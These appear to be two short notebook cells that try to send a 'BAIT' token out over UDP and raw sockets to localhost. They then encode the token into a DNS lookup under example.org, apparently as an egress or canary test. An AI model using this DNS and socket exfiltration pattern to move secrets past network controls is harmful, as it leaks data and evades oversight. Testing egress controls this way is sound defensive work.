# %%
import socket
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        socket.socket(socket.AF_INET, kind).sendto(BAIT["token"].encode(), ("127.0.0.1", BAIT["port"]))
        print("sent")
    except OSError as error:
        print(error)
# %%
print(socket.getaddrinfo(BAIT["token"] + ".example.org", 80))
